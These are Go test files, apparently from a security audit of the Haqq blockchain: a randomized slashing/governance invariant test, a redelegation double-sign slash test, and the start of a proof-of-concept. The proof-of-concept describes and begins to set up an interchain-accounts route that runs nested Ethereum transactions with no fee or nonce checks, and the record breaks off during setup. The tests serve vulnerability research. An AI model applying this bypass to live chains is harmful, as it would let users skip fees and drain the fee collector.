	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	haqqapp "github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	"github.com/haqq-network/haqq/utils"
)

const (
	zzFoo = "foo"
	zzIBC = "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"
)

type zzSnap struct {
	supply    sdk.Coins
	pool      sdk.DecCoins
	distr     sdk.Coins
	bonded    sdk.Coins
	notBonded sdk.Coins
	gov       sdk.Coins
	outst     sdk.DecCoins
	accs      sdk.Coins
}

var zzAccs []sdk.AccAddress

func zzTake(nw *network.UnitTestNetwork) zzSnap {
	ctx := nw.GetContext()
	a := nw.App
	s := zzSnap{}
	a.BankKeeper.IterateTotalSupply(ctx, func(c sdk.Coin) bool { s.supply = s.supply.Add(c); return false })
	s.pool = a.DistrKeeper.GetFeePoolCommunityCoins(ctx)
	s.distr = a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(distrtypes.ModuleName))
	s.bonded = a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName))
	s.notBonded = a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName))
	s.gov = a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(govtypes.ModuleName))
	a.DistrKeeper.IterateValidatorOutstandingRewards(ctx, func(_ sdk.ValAddress, r distrtypes.ValidatorOutstandingRewards) bool {
		s.outst = s.outst.Add(r.Rewards...)
		return false
	})
	for _, acc := range zzAccs {
		s.accs = s.accs.Add(a.BankKeeper.GetAllBalances(ctx, acc)...)
	}
	return s
}

func zzRunHistory(t *testing.T, seed int64, steps int) {
	r := rand.New(rand.NewSource(seed)) //nolint:gosec
	keys := keyring.New(5)
	zzAccs = keys.GetAllAccAddrs()
	big := sdkmath.NewIntWithDecimal(1, 24)
	var balances []banktypes.Balance
	for i := 0; i < 5; i++ {
		balances = append(balances, banktypes.Balance{
			Address: keys.GetAccAddr(i).String(),
			Coins: sdk.NewCoins(
				sdk.NewCoin(utils.BaseDenom, big),
				sdk.NewCoin(zzFoo, big),
				sdk.NewCoin(zzIBC, big),
			),
		})
	}
	nw := network.NewUnitTestNetwork(network.WithAmountOfValidators(6), network.WithBalances(balances...))
	require.NoError(t, nw.NextBlock())
	a := nw.App

	// gov: burn everything that can be burnt, short periods
	{
		ctx := nw.GetContext()
		p := a.GovKeeper.GetParams(ctx)
		vp := 30 * time.Second
		dp := 20 * time.Second
		p.VotingPeriod = &vp
		p.MaxDepositPeriod = &dp
		p.BurnVoteQuorum = true
		p.BurnVoteVeto = true
		p.BurnProposalDepositPrevote = true
		p.MinDeposit = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(1000)))
		require.NoError(t, a.GovKeeper.SetParams(ctx, p))
		sp := a.SlashingKeeper.GetParams(ctx)
		sp.SlashFractionDoubleSign = sdk.NewDecWithPrec(int64(1+r.Intn(99)), 2)
		sp.SlashFractionDowntime = sdk.NewDecWithPrec(int64(1+r.Intn(50)), 2)
		require.NoError(t, a.SlashingKeeper.SetParams(ctx, sp))
		// the test network writes its validators straight into the staking genesis: give them
		// the signing info the AfterValidatorBonded hook would have created
		for _, v := range a.StakingKeeper.GetAllValidators(ctx) {
			cons, _ := v.GetConsAddr()
			if !a.SlashingKeeper.HasValidatorSigningInfo(ctx, cons) {
				a.SlashingKeeper.SetValidatorSigningInfo(ctx, cons, slashingtypes.NewValidatorSigningInfo(cons, ctx.BlockHeight(), 0, time.Unix(0, 0), false, 0))
			}
		}
	}

	keep := nw.GetValidators()[0].GetOperator()
	stk := stakingkeeper.NewMsgServerImpl(a.StakingKeeper.Keeper)
	govSrv := govkeeper.NewMsgServerImpl(&a.GovKeeper)

	isGov := false
	check := func(label string, before zzSnap, burned sdk.Coins) zzSnap {
		after := zzTake(nw)
		// 1. nothing leaves circulation
		require.Equal(t, before.supply.String(), after.supply.String(), "%s: total supply changed", label)
		// 2. the distribution module account holds the community pool and the outstanding rewards
		exp, _ := after.pool.Add(after.outst...).TruncateDecimal()
		require.Equal(t, exp.String(), after.distr.String(), "%s: distribution module account vs pool", label)
		if burned != nil {
			// the slash hook may move a zero-token validator's current rewards from "outstanding" to the pool
			// and unbonding a redelegation's shares pays the delegator's rewards out: count those too
			lhs := after.pool.Add(after.outst...).Add(sdk.NewDecCoinsFromCoins(after.accs...)...)
			rhs := before.pool.Add(before.outst...).Add(sdk.NewDecCoinsFromCoins(before.accs...)...).Add(sdk.NewDecCoinsFromCoins(burned...)...)
			if op := label; len(op) > 0 && !isGov {
				require.Equal(t, rhs.String(), lhs.String(), "%s: community pool growth", label)
			} else {
				gotPool := after.pool.Sub(before.pool)
				require.Equal(t, sdk.NewDecCoinsFromCoins(burned...).String(), gotPool.String(), "%s: community pool growth", label)
			}
		}
		// 3. all registered invariants
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					t.Fatalf("%s: invariant broken: %v", label, rec)
				}
			}()
			a.CrisisKeeper.AssertInvariants(nw.GetContext())
		}()
		return after
	}

	randVal := func() (stakingtypes.Validator, bool) {
		vals := a.StakingKeeper.GetAllValidators(nw.GetContext())
		if len(vals) == 0 {
			return stakingtypes.Validator{}, false
		}
		return vals[r.Intn(len(vals))], true
	}
	randAmt := func() sdkmath.Int {
		// between 1 and ~3e18 with odd digits
		base := sdkmath.NewInt(r.Int63n(3_000_000_000) + 1)
		exp := r.Intn(10)
		return base.Mul(sdkmath.NewIntWithDecimal(1, exp)).AddRaw(r.Int63n(7))
	}

	try := func(ctx sdk.Context, f func(c sdk.Context) error) {
		cc, write := ctx.CacheContext()
		if err := f(cc); err == nil {
			write()
		}
	}

	type pend struct {
		id uint64
	}
	var pending []pend
	var slashBurns, govBurns int

	for step := 0; step < steps; step++ {
		ctx := nw.GetContext()
		before := zzTake(nw)
		op := r.Intn(13)
		label := fmt.Sprintf("seed %d step %d op %d", seed, step, op)
		var burned sdk.Coins
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					t.Fatalf("%s: panic: %v", label, rec)
				}
			}()
			switch op {
			case 0: // delegate
				v, ok := randVal()
				if !ok {
					return
				}
				d := keys.GetAccAddr(r.Intn(5))
				try(ctx, func(c sdk.Context) error {
					_, err := stk.Delegate(sdk.WrapSDKContext(c), stakingtypes.NewMsgDelegate(d, v.GetOperator(), sdk.NewCoin(utils.BaseDenom, randAmt())))
					return err
				})
			case 1: // undelegate
				dels := a.StakingKeeper.GetAllDelegations(ctx)
				if len(dels) == 0 {
					return
				}
				del := dels[r.Intn(len(dels))]
				if del.GetValidatorAddr().Equals(keep) {
					return
				}
				v, _ := a.StakingKeeper.GetValidator(ctx, del.GetValidatorAddr())
				tok := v.TokensFromShares(del.Shares).TruncateInt()
				if !tok.IsPositive() {
					return
				}
				amt := tok
				if r.Intn(3) > 0 {
					amt = tok.QuoRaw(int64(1 + r.Intn(5)))
				}
				if !amt.IsPositive() {
					return
				}
				try(ctx, func(c sdk.Context) error {
					_, err := stk.Undelegate(sdk.WrapSDKContext(c), stakingtypes.NewMsgUndelegate(del.GetDelegatorAddr(), del.GetValidatorAddr(), sdk.NewCoin(utils.BaseDenom, amt)))
					return err
				})
			case 2: // redelegate
				dels := a.StakingKeeper.GetAllDelegations(ctx)
				if len(dels) == 0 {
					return
				}
				del := dels[r.Intn(len(dels))]
				if del.GetValidatorAddr().Equals(keep) {
					return
				}
				v, _ := a.StakingKeeper.GetValidator(ctx, del.GetValidatorAddr())
				dst, ok := randVal()
				if !ok {
					return
				}
				tok := v.TokensFromShares(del.Shares).TruncateInt()
				amt := tok
				if r.Intn(3) > 0 {
					amt = tok.QuoRaw(int64(1 + r.Intn(5)))
				}
				if !amt.IsPositive() {
					return
				}
				try(ctx, func(c sdk.Context) error {
					_, err := stk.BeginRedelegate(sdk.WrapSDKContext(c), stakingtypes.NewMsgBeginRedelegate(del.GetDelegatorAddr(), del.GetValidatorAddr(), dst.GetOperator(), sdk.NewCoin(utils.BaseDenom, amt)))
					return err
				})
			case 3: // double sign evidence through the evidence keeper (BeginBlock path)
				v, ok := randVal()
				if !ok {
					return
				}
				cons, _ := v.GetConsAddr()
				h := ctx.BlockHeight() - int64(r.Intn(int(ctx.BlockHeight())))
				power := v.ConsensusPower(sdk.DefaultPowerReduction) + int64(r.Intn(3))
				if power == 0 {
					power = 1
				}
				if v.GetOperator().Equals(keep) {
					return
				}
				pb, pn := before.bonded, before.notBonded
				a.EvidenceKeeper.HandleEquivocationEvidence(ctx, &evidencetypes.Equivocation{
					Height:           h,
					Time:             ctx.BlockTime().Add(-time.Duration(r.Intn(100)) * time.Second),
					Power:            power,
					ConsensusAddress: cons.String(),
				})
				nb := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName))
				nn := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName))
				burned = pb.Add(pn...).Sub(nb.Add(nn...)...)
			case 4: // downtime slash through the slashing keeper
				v, ok := randVal()
				if !ok || v.IsUnbonded() || v.IsJailed() || v.GetOperator().Equals(keep) {
					return
				}
				cons, _ := v.GetConsAddr()
				pb, pn := before.bonded, before.notBonded
				power := v.ConsensusPower(sdk.DefaultPowerReduction)
				a.SlashingKeeper.Slash(ctx, cons, a.SlashingKeeper.SlashFractionDowntime(ctx), power, ctx.BlockHeight()-sdk.ValidatorUpdateDelay-1)
				a.SlashingKeeper.Jail(ctx, cons)
				nb := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName))
				nn := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName))
				burned = pb.Add(pn...).Sub(nb.Add(nn...)...)
			case 5: // unjail something
				vals := a.StakingKeeper.GetAllValidators(ctx)
				for _, v := range vals {
					if v.IsJailed() {
						cons, _ := v.GetConsAddr()
						info, found := a.SlashingKeeper.GetValidatorSigningInfo(ctx, cons)
						if found && !info.Tombstoned {
							a.StakingKeeper.Unjail(ctx, cons)
							break
						}
					}
				}
			case 6: // proposal with a deposit in several denominations
				d := keys.GetAccAddr(r.Intn(5))
				dep := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(r.Int63n(2000)+1)))
				if r.Intn(2) == 0 {
					dep = dep.Add(sdk.NewCoin(zzFoo, randAmt()))
				}
				if r.Intn(2) == 0 {
					dep = dep.Add(sdk.NewCoin(zzIBC, randAmt()))
				}
				msg, err := govv1.NewMsgSubmitProposal(nil, dep, d.String(), "m", "t", "s")
				require.NoError(t, err)
				try(ctx, func(c sdk.Context) error {
					res, err := govSrv.SubmitProposal(sdk.WrapSDKContext(c), msg)
					if err == nil {
						pending = append(pending, pend{id: res.ProposalId})
					}
					return err
				})
			case 7: // deposit / vote on a pending proposal
				if len(pending) == 0 {
					return
				}
				p := pending[r.Intn(len(pending))]
				d := keys.GetAccAddr(r.Intn(5))
				if r.Intn(2) == 0 {
					dep := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewInt(r.Int63n(2000)+1)), sdk.NewCoin(zzFoo, randAmt()))
					try(ctx, func(c sdk.Context) error {
						_, err := govSrv.Deposit(sdk.WrapSDKContext(c), govv1.NewMsgDeposit(d, p.id, dep))
						return err
					})
				} else {
					opt := []govv1.VoteOption{govv1.OptionYes, govv1.OptionNo, govv1.OptionNoWithVeto, govv1.OptionAbstain}[r.Intn(4)]
					try(ctx, func(c sdk.Context) error {
						_, err := govSrv.Vote(sdk.WrapSDKContext(c), govv1.NewMsgVote(d, p.id, opt, ""))
						return err
					})
				}
			case 8: // gov end blocker now (burns / refunds)
				pg := before.gov
				// what is about to be burnt cannot be predicted without re-implementing the tally:
				// measure the refunds instead.
				var accBefore sdk.Coins
				for i := 0; i < 5; i++ {
					accBefore = accBefore.Add(a.BankKeeper.GetAllBalances(ctx, keys.GetAccAddr(i))...)
				}
				gov.EndBlocker(ctx, &a.GovKeeper)
				var accAfter sdk.Coins
				for i := 0; i < 5; i++ {
					accAfter = accAfter.Add(a.BankKeeper.GetAllBalances(ctx, keys.GetAccAddr(i))...)
				}
				ng := a.BankKeeper.GetAllBalances(ctx, authtypes.NewModuleAddress(govtypes.ModuleName))
				refunded := accAfter.Sub(accBefore...)
				burned = pg.Sub(ng...).Sub(refunded...)
			case 10: // rewards for a bonded validator
				v, ok := randVal()
				if !ok || !v.IsBonded() {
					return
				}
				rew := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, randAmt()), sdk.NewCoin(zzFoo, randAmt()))
				d := keys.GetAccAddr(r.Intn(5))
				try(ctx, func(c sdk.Context) error {
					if err := a.BankKeeper.SendCoinsFromAccountToModule(c, d, distrtypes.ModuleName, rew); err != nil {
						return err
					}
					a.DistrKeeper.AllocateTokensToValidator(c, v, sdk.NewDecCoinsFromCoins(rew...))
					return nil
				})
			case 11: // withdraw delegation rewards
				dels := a.StakingKeeper.GetAllDelegations(ctx)
				if len(dels) == 0 {
					return
				}
				del := dels[r.Intn(len(dels))]
				try(ctx, func(c sdk.Context) error {
					_, err := a.DistrKeeper.WithdrawDelegationRewards(c, del.GetDelegatorAddr(), del.GetValidatorAddr())
					return err
				})
			case 12: // withdraw commission
				v, ok := randVal()
				if !ok {
					return
				}
				try(ctx, func(c sdk.Context) error {
					_, err := a.DistrKeeper.WithdrawValidatorCommission(c, v.GetOperator())
					return err
				})
			case 9: // time passes
				var d time.Duration
				switch r.Intn(4) {
				case 0:
					d = time.Second
				case 1:
					d = 25 * time.Second
				case 2:
					d = 40 * time.Second
				default:
					d = 22 * 24 * time.Hour
				}
				require.NoError(t, nw.NextBlockAfter(d))
			}
		}()
		if op == 9 || op >= 10 {
			// the block boundary runs the gov and staking end blockers and every begin blocker
			check(label, before, nil)
			continue
		}
		isGov = op == 8
		check(label, before, burned)
		if burned != nil && !burned.IsZero() {
			if op == 8 {
				govBurns++
			} else {
				slashBurns++
			}
		}
	}
	t.Logf("seed %d: %d slashes with a burn, %d gov end blocks with a burn, pool %s", seed, slashBurns, govBurns, zzTake(nw).pool)
	// genesis round trips: as it is, and for zero height
	require.NoError(t, nw.NextBlock())
	for _, zero := range []bool{false, true} {
		func() {
			defer func() {
				if rec := recover(); rec != nil {
					t.Fatalf("seed %d: export/import (zero height %v) panics: %v", seed, zero, rec)
				}
			}()
			exp, err := a.ExportAppStateAndValidators(zero, nil, nil)
			require.NoError(t, err)
			fresh := haqqapp.NewHaqq(
				log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{}, haqqapp.DefaultNodeHome, 5,
				encoding.MakeConfig(haqqapp.ModuleBasics), simutils.NewAppOptionsWithFlagHome(haqqapp.DefaultNodeHome),
				baseapp.SetChainID(nw.GetChainID()),
			)
			fresh.InitChain(abci.RequestInitChain{
				ChainId:         nw.GetChainID(),
				Time:            nw.GetContext().BlockTime(),
				InitialHeight:   exp.Height,
				ConsensusParams: exp.ConsensusParams,
				AppStateBytes:   exp.AppState,
			})
			fresh.Commit()
		}()
	}
}

func TestZZHuntSlashGovHistory(t *testing.T) {
	for seed := int64(1); seed <= 40; seed++ {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			zzRunHistory(t, seed, 400)
		})
	}
}
