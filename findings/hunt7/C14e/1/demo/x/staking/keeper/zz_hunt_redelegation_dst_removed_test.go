package keeper_test

import (
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	slashingtypes "github.com/cosmos/cosmos-sdk/x/slashing/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/testutil/integration/haqq/keyring"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	"github.com/haqq-network/haqq/utils"
)

// A double sign of validator A is punished on the stake that was redelegated from A to B as well.
// When B is an unbonded validator whose last shares are that redelegation, handling the evidence
// must still leave the supply alone and move the slashed coins to the community pool.
func TestZZHuntSlashRedelegationIntoUnbondedValidator(t *testing.T) {
	// fraction: slash_fraction_double_sign; undelegate: what d takes out of B again after the redelegation
	t.Run("fraction 1.0", func(t *testing.T) {
		zzSlashRedelegationIntoUnbondedValidator(t, sdk.OneDec(), sdkmath.ZeroInt())
	})
	t.Run("fraction 0.6, half of the redelegated stake unbonding", func(t *testing.T) {
		zzSlashRedelegationIntoUnbondedValidator(t, sdk.NewDecWithPrec(6, 1), sdkmath.NewIntWithDecimal(25, 16))
	})
}

func zzSlashRedelegationIntoUnbondedValidator(t *testing.T, fraction sdk.Dec, undelegate sdkmath.Int) {
	keys := keyring.New(2)
	big := sdkmath.NewIntWithDecimal(1, 22)
	var balances []banktypes.Balance
	for i := 0; i < 2; i++ {
		balances = append(balances, banktypes.Balance{
			Address: keys.GetAccAddr(i).String(),
			Coins:   sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, big)),
		})
	}
	nw := network.NewUnitTestNetwork(network.WithAmountOfValidators(3), network.WithBalances(balances...))
	require.NoError(t, nw.NextBlock())
	a := nw.App
	ctx := nw.GetContext()

	sp := a.SlashingKeeper.GetParams(ctx)
	sp.SlashFractionDoubleSign = fraction // accepted by the parameter validation
	require.NoError(t, a.SlashingKeeper.SetParams(ctx, sp))
	for _, v := range a.StakingKeeper.GetAllValidators(ctx) {
		cons, _ := v.GetConsAddr()
		if !a.SlashingKeeper.HasValidatorSigningInfo(ctx, cons) {
			a.SlashingKeeper.SetValidatorSigningInfo(ctx, cons, slashingtypes.NewValidatorSigningInfo(cons, ctx.BlockHeight(), 0, time.Unix(0, 0), false, 0))
		}
	}

	vals := nw.GetValidators()
	valA, valB := vals[1].GetOperator(), vals[2].GetOperator()
	genesisDelegator := keys.GetAccAddr(0) // holds the genesis delegations
	d := keys.GetAccAddr(1)
	stk := stakingkeeper.NewMsgServerImpl(a.StakingKeeper.Keeper)
	one := sdkmath.NewIntWithDecimal(1, 18)

	// B loses 90% of its stake, falls out of the set and completes its unbonding
	_, err := stk.Undelegate(sdk.WrapSDKContext(ctx), stakingtypes.NewMsgUndelegate(genesisDelegator, valB, sdk.NewCoin(utils.BaseDenom, one.MulRaw(9).QuoRaw(10))))
	require.NoError(t, err)
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlockAfter(22*24*time.Hour))
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	b, found := a.StakingKeeper.GetValidator(ctx, valB)
	require.True(t, found)
	require.True(t, b.IsUnbonded(), "B is %s", b.Status)

	// d delegates to A and moves half of it to B
	_, err = stk.Delegate(sdk.WrapSDKContext(ctx), stakingtypes.NewMsgDelegate(d, valA, sdk.NewCoin(utils.BaseDenom, one.MulRaw(2))))
	require.NoError(t, err)
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	infractionHeight := ctx.BlockHeight()
	infractionTime := ctx.BlockTime()
	va, _ := a.StakingKeeper.GetValidator(ctx, valA)
	powerA := va.ConsensusPower(sdk.DefaultPowerReduction)
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlock())
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	_, err = stk.BeginRedelegate(sdk.WrapSDKContext(ctx), stakingtypes.NewMsgBeginRedelegate(d, valA, valB, sdk.NewCoin(utils.BaseDenom, one.QuoRaw(2))))
	require.NoError(t, err)
	if undelegate.IsPositive() {
		_, err = stk.Undelegate(sdk.WrapSDKContext(ctx), stakingtypes.NewMsgUndelegate(d, valB, sdk.NewCoin(utils.BaseDenom, undelegate)))
		require.NoError(t, err)
	}
	// the genesis delegator leaves B altogether
	_, err = stk.Undelegate(sdk.WrapSDKContext(ctx), stakingtypes.NewMsgUndelegate(genesisDelegator, valB, sdk.NewCoin(utils.BaseDenom, one.QuoRaw(10))))
	require.NoError(t, err)
	require.NoError(t, nw.NextBlock())
	ctx = nw.GetContext()
	b, found = a.StakingKeeper.GetValidator(ctx, valB)
	require.True(t, found)
	require.True(t, b.IsUnbonded(), "B is %s", b.Status)

	supplyBefore := a.BankKeeper.GetSupply(ctx, utils.BaseDenom)
	poolBefore := a.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom)
	stakeBefore := a.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName), utils.BaseDenom).Amount.
		Add(a.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName), utils.BaseDenom).Amount)

	consA, _ := va.GetConsAddr()

	// next block: CometBFT reports the duplicate vote of A in RequestBeginBlock
	header := ctx.BlockHeader()
	a.EndBlock(abci.RequestEndBlock{Height: header.Height})
	a.Commit()
	header.Height++
	header.Time = header.Time.Add(time.Second)
	header.AppHash = a.LastCommitID().Hash
	require.NotPanics(t, func() {
		a.BeginBlock(abci.RequestBeginBlock{
			Header: header,
			ByzantineValidators: []abci.Misbehavior{{
				Type:             abci.MisbehaviorType_DUPLICATE_VOTE,
				Validator:        abci.Validator{Address: consA, Power: powerA},
				Height:           infractionHeight + sdk.ValidatorUpdateDelay,
				Time:             infractionTime,
				TotalVotingPower: 3,
			}},
		})
	}, "BeginBlock must be able to handle the evidence")
	ctx = a.BaseApp.NewContext(false, header)

	stakeAfter := a.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.BondedPoolName), utils.BaseDenom).Amount.
		Add(a.BankKeeper.GetBalance(ctx, authtypes.NewModuleAddress(stakingtypes.NotBondedPoolName), utils.BaseDenom).Amount)
	slashed := stakeBefore.Sub(stakeAfter)
	t.Logf("slashed %s, supply %s -> %s, community pool %s -> %s", slashed, supplyBefore.Amount, a.BankKeeper.GetSupply(ctx, utils.BaseDenom).Amount,
		poolBefore, a.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom))
	require.True(t, slashed.IsPositive())
	require.Equal(t, supplyBefore.String(), a.BankKeeper.GetSupply(ctx, utils.BaseDenom).String(), "supply")
	require.Equal(t, sdk.NewDecFromInt(slashed).String(), a.DistrKeeper.GetFeePoolCommunityCoins(ctx).AmountOf(utils.BaseDenom).Sub(poolBefore).String(), "community pool growth")
	_ = distrtypes.ModuleName
}
