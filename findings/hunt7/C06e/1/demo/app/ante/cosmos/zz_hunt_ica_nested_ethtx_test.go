package cosmos_test

import (
	"math/big"
	"math/rand"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	"github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/x/authz"
	minttypes "github.com/cosmos/cosmos-sdk/x/mint/types"
	"github.com/cosmos/gogoproto/proto"
	icacontrollertypes "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/controller/types"
	icatypes "github.com/cosmos/ibc-go/v7/modules/apps/27-interchain-accounts/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"
	ibcgotesting "github.com/cosmos/ibc-go/v7/testing"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/app"
	cosmosante "github.com/haqq-network/haqq/app/ante/cosmos"
	haqqibctesting "github.com/haqq-network/haqq/ibc/testing"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// TestZZHuntICAHostExecutesNestedEthereumTx
//
// Property C06: an Ethereum transaction message is executed only through the Ethereum route of the
// ante handler (fee, nonce and signature rules); nested at any depth inside authorization-exec
// messages it is rejected before execution.
//
// The interchain-accounts host module of the app (enabled, allow list "*" in the app's default
// genesis) hands the messages of a received packet straight to the message service router: no ante
// handler runs. A grant for the message type MsgExec is not barred, so an account V can let an
// interchain account "exec on its behalf". The controller then sends
//
//	MsgExec{ grantee: ICA, msgs: [ MsgExec{ grantee: V, msgs: [ MsgEthereumTx signed by V ] } ] }
//
// and the Ethereum message runs on Haqq with no fee deducted, no nonce check or increment - and the
// EVM keeper "refunds" the unused gas to V out of the fee collector.
func TestZZHuntICAHostExecutesNestedEthereumTx(t *testing.T) {
	// ---------------------------------------------------------------------------------------------
	// two chains: Haqq (ICA host) and an ibc-go SimApp (ICA controller, any chain the attacker likes)
	// ---------------------------------------------------------------------------------------------
	coord := haqqibctesting.NewCoordinator(t, 1, 1)
	haqqChain := coord.GetChain(ibcgotesting.GetChainID(1))
	ctrlChain := coord.GetChain(ibcgotesting.GetChainID(2))
	coord.CommitNBlocks(haqqChain, 2)
	coord.CommitNBlocks(ctrlChain, 2)

	haqqApp := haqqChain.App.(*app.Haqq)

	// the block proposer must be a known validator for the EVM (coinbase), as on a live chain
	validators := haqqApp.StakingKeeper.GetValidators(haqqChain.GetContext(), 2)
	cons, err := validators[0].GetConsAddr()
	require.NoError(t, err)
	haqqChain.CurrentHeader.ProposerAddress = cons.Bytes()
	require.NoError(t, haqqApp.StakingKeeper.SetValidatorByConsAddr(haqqChain.GetContext(), validators[0]))

	// relayer funds on both chains (the relayer is the chains' default sender account)
	relayerCoins := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1000, 18)))
	require.NoError(t, haqqApp.BankKeeper.MintCoins(haqqChain.GetContext(), coinomicstypes.ModuleName, relayerCoins))
	require.NoError(t, haqqApp.BankKeeper.SendCoinsFromModuleToAccount(haqqChain.GetContext(), coinomicstypes.ModuleName, haqqChain.SenderAccount.GetAddress(), relayerCoins))
	stake := sdk.NewCoins(sdk.NewCoin(sdk.DefaultBondDenom, sdkmath.NewIntWithDecimal(1000, 18)))
	require.NoError(t, ctrlChain.GetSimApp().BankKeeper.MintCoins(ctrlChain.GetContext(), minttypes.ModuleName, stake))
	require.NoError(t, ctrlChain.GetSimApp().BankKeeper.SendCoinsFromModuleToAccount(ctrlChain.GetContext(), minttypes.ModuleName, ctrlChain.SenderAccount.GetAddress(), stake))

	// the ICA host sub module is configured by the app's own default genesis
	hostParams := haqqApp.ICAHostKeeper.GetParams(haqqChain.GetContext())
	t.Logf("ICA host params of the default genesis: enabled=%v allow_messages=%v", hostParams.HostEnabled, hostParams.AllowMessages)
	require.True(t, hostParams.HostEnabled)

	// ---------------------------------------------------------------------------------------------
	// IBC connection + interchain account channel, through the normal handshake
	// ---------------------------------------------------------------------------------------------
	path := haqqibctesting.NewPath(ctrlChain, haqqChain) // A = controller, B = Haqq
	path.EndpointA.ChannelConfig.PortID = icatypes.HostPortID
	path.EndpointB.ChannelConfig.PortID = icatypes.HostPortID
	path.EndpointA.ChannelConfig.Order = channeltypes.ORDERED
	path.EndpointB.ChannelConfig.Order = channeltypes.ORDERED
	haqqibctesting.SetupConnections(coord, path)

	version := string(icatypes.ModuleCdc.MustMarshalJSON(&icatypes.Metadata{
		Version:                icatypes.Version,
		ControllerConnectionId: path.EndpointA.ConnectionID,
		HostConnectionId:       path.EndpointB.ConnectionID,
		Encoding:               icatypes.EncodingProtobuf,
		TxType:                 icatypes.TxTypeSDKMultiMsg,
	}))
	path.EndpointA.ChannelConfig.Version = version
	path.EndpointB.ChannelConfig.Version = version

	owner := ctrlChain.SenderAccount.GetAddress().String()
	ctrlPortID, err := icatypes.NewControllerPortID(owner)
	require.NoError(t, err)

	channelSequence := ctrlChain.App.GetIBCKeeper().ChannelKeeper.GetNextChannelSequence(ctrlChain.GetContext())
	require.NoError(t, ctrlChain.GetSimApp().ICAControllerKeeper.RegisterInterchainAccount(ctrlChain.GetContext(), path.EndpointA.ConnectionID, owner, version))
	ctrlChain.NextBlock()
	path.EndpointA.ChannelID = channeltypes.FormatChannelIdentifier(channelSequence)
	path.EndpointA.ChannelConfig.PortID = ctrlPortID

	require.NoError(t, path.EndpointB.ChanOpenTry())
	require.NoError(t, path.EndpointA.ChanOpenAck())
	require.NoError(t, path.EndpointB.ChanOpenConfirm())

	icaAddrStr, found := haqqApp.ICAHostKeeper.GetInterchainAccountAddress(haqqChain.GetContext(), path.EndpointB.ConnectionID, ctrlPortID)
	require.True(t, found, "interchain account registered on Haqq")
	icaAddr := sdk.MustAccAddressFromBech32(icaAddrStr)

	// ---------------------------------------------------------------------------------------------
	// V: an ordinary Haqq account with a little money for one Cosmos fee
	// ---------------------------------------------------------------------------------------------
	vAddr, vPriv := utiltx.NewAccAddressAndKey()
	vEth := common.BytesToAddress(vAddr)
	vFunds := sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdkmath.NewIntWithDecimal(1, 18)))
	require.NoError(t, testutil.FundAccount(haqqChain.GetContext(), haqqApp.BankKeeper, vAddr, vFunds))
	haqqChain.NextBlock()

